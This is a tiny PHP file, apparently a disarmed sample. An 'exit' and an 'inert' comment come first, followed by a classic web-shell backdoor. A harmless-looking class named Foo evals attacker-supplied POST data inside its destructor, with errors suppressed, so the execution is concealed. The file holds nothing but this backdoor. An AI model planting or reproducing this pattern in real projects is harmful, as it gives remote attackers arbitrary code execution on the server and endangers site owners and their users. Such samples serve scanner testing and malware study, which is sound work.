<?php exit; /* inert */ 
class Foo { var $test = ''; function __destruct() { @eval($this->test); } }
$x = new Foo; $x->test = $_POST['t'];
